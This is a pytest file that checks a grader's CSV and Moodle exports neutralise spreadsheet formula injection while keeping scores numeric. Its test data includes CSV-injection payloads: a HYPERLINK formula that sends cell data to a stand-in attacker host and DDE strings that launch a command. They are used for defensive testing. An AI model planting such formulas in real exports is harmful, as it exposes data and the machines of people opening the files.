"""Grade exports never hand a spreadsheet a formula, and scores stay numbers."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import pytest
from cli_fixtures import support

from grader.cli import main
from grader.render.tables import CSV_COLUMNS, csv_rows, moodle_rows
from grader.stores.results import SubmissionResult

pytestmark = [pytest.mark.filterwarnings("ignore::DeprecationWarning")]

#: What a spreadsheet evaluates when a cell starts with it (OWASP's list).
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = {"first_name": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Ada\")",
            "last_name": "+cmd|' /C calc'!A0", "email": "@SUM(1+1)*cmd|' /C calc'!A0",
            "id_number": "-2+3+cmd|' /C calc'!A0"}
NUMBERS = ("score", "max_score", "percent", "late_penalty")


def _is_formula(cell: str) -> bool:
    return cell.lstrip(" ").startswith(TRIGGERS) or cell.startswith(TRIGGERS)


def _result(**kw):
    base = dict(student="ada", assignment="ps1", status="graded", score=5.0, max_score=7.0,
                late_penalty=-1.0, reasons=["=1+1 in a cell name", "\tx"],
                first_name="\r=2", last_name="Lovelace", email="ada@example.org")
    base.update(kw)
    return SubmissionResult(**base)


def test_text_cells_get_an_apostrophe_and_stay_readable():
    row = csv_rows([_result()])[0]
    assert row["reasons"] == "'=1+1 in a cell name; \tx"
    assert row["first_name"] == "'\r=2"
    assert row["last_name"] == "Lovelace" and row["email"] == "ada@example.org"
    for column in CSV_COLUMNS:
        if column not in NUMBERS:
            assert not row[column].startswith(TRIGGERS), column


def test_scores_stay_numbers_even_negative():
    row = csv_rows([_result(score=-0.5, late_penalty=-1.0)])[0]
    assert float(row["score"]) == -0.5 and float(row["late_penalty"]) == -1.0
    _, rows, _ = moodle_rows([_result(score=-0.5, email="-x@example.org")])
    assert rows == [["'-x@example.org", "-0.5"]]


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    return support.graded_class(tmp_path_factory.mktemp("tables") / "course")


def _hostile_roster(path: Path) -> Path:
    quoted = {k: '"' + v.replace('"', '""') + '"' for k, v in PAYLOADS.items()}
    rows = [",".join(["full", quoted["first_name"], quoted["last_name"], quoted["email"],
                      quoted["id_number"], ""])]
    return support.write_roster(path, rows)


def test_csv_export_neutralises_roster_formulas(course, tmp_path, capsys):
    roster = _hostile_roster(tmp_path / "roster.csv")
    out_file = tmp_path / "grades.csv"
    code = main(["--course", str(course.root), "--source", str(support.SOURCE), "export",
                 "--roster", str(roster), "-o", str(out_file)])
    assert code == 0, capsys.readouterr()
    rows = {r["student_id"]: r for r in csv.DictReader(io.StringIO(out_file.read_text()))}
    full = rows["full"]
    for column, payload in PAYLOADS.items():
        assert full[column] == "'" + payload          # readable: the text, one apostrophe
    for row in rows.values():
        for column, cell in row.items():
            if column not in NUMBERS:
                assert not _is_formula(cell), (column, cell)
    assert float(full["score"]) == pytest.approx(7.0)


def test_moodle_export_neutralises_identifiers(course, tmp_path, capsys):
    roster = _hostile_roster(tmp_path / "roster.csv")
    out_file = tmp_path / "moodle.csv"
    code = main(["--course", str(course.root), "--source", str(support.SOURCE), "export",
                 "--format", "moodle", "--match-on", "id_number", "--roster", str(roster),
                 "-o", str(out_file)])
    assert code == 0, capsys.readouterr()
    rows = list(csv.reader(io.StringIO(out_file.read_text())))
    assert rows[1] == ["'" + PAYLOADS["id_number"], "7"]


def test_stock_nbgrader_export_neutralises_too(course, tmp_path):
    from nbgrader.api import Gradebook

    with Gradebook(course.db_url, "weakties") as gb:
        gb.update_or_create_student("late", first_name="@cmd", last_name="=1+1",
                                    email="+33 1 23 45 67 89")
    dest = tmp_path / "grades.csv"
    env = {"PATH": str(Path(sys.executable).parent) + ":/usr/bin:/bin"}
    proc = subprocess.run([str(Path(sys.executable).parent / "nbgrader"), "export", "--to",
                           str(dest)], cwd=course.root, env=env, capture_output=True, text=True,
                          timeout=120)
    assert proc.returncode == 0, proc.stderr
    rows = {r["student_id"]: r for r in csv.DictReader(io.StringIO(dest.read_text()))}
    assert (rows["late"]["first_name"], rows["late"]["last_name"], rows["late"]["email"]) == \
        ("'@cmd", "'=1+1", "'+33 1 23 45 67 89")
